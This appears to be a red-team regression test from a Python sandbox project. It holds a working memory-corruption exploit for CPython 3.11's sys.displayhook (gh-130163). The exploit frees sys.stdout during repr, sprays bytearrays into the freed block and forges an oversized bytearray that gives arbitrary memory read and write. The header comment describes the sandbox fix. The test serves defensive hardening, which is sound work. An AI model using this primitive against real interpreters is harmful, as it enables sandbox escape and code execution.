# Red team round 23: sys.displayhook on 3.11 (CPython gh-130163, fixed in 3.12; the class round 22's hold_streams closed for print and
# input only): it reads sys.stdout borrowed, calls repr(o), then writes the newline to that stream again. Our
# __repr__ swaps sys.stdout back (the stream object, held by sys only, is freed: its `write` is a staticmethod,
# so no bound method holds it) and a bytearray buffer takes its block at once; the newline write then asks the
# fake object for `write`: its type is a class of ours whose __getattribute__ gets the fake as self and makes it
# an empty bytearray whose size is huge: a reader and writer of any address.
# Closed: _r2e_kernel.hold_streams wraps sys.displayhook (and _warnings' warn, faulthandler's file users) so
# the streams are held for the call; every module's reference to the original is replaced.
import sys

_GOT, _KEEP = [], []


def _fake_type(k):
    class _Fake:  # the type of the fake made from the k-th sprayed buffer
        __slots__ = ()

        def __getattribute__(self, name):
            _KEEP[k][24:72] = id(bytearray).to_bytes(8, "little") + bytes(40)  # at once an empty bytearray
            _GOT.append((self, _KEEP[k]))
            return len

    return _Fake


_FAKES = [_fake_type(k) for k in range(16)]


class _Stream(int):
    __slots__ = ()
    write = staticmethod(len)


_SIZE = 112  # the stream's block: GC header 16 + int header 24 + 18 digits of 4 bytes (3.11)


class _Swap:
    __slots__ = ("saved",)

    def __repr__(self):
        sys.stdout = self.saved  # the stream is freed
        for k in range(16):
            _KEEP.append(bytearray((1 << 40).to_bytes(8, "little").rjust(24, b"\0")
                                   + id(_FAKES[k]).to_bytes(8, "little") + bytes(_SIZE - 33)))
        return "x"


def reader():
    swap = _Swap()
    swap.saved = sys.stdout
    sys.stdout = _Stream(1 << 500)
    try:
        sys.displayhook(swap)
    finally:
        sys.stdout = swap.saved
    mem, buf = _GOT[0]
    buf[32:48] = (1 << 62).to_bytes(8, "little") + ((1 << 62) + 1).to_bytes(8, "little")
    return mem, buf



def test_structure():
    mem, buf = reader()
    assert_structure(mem, lambda: buf.__setitem__(slice(32, 48), bytes(16)))  # an empty bytearray again
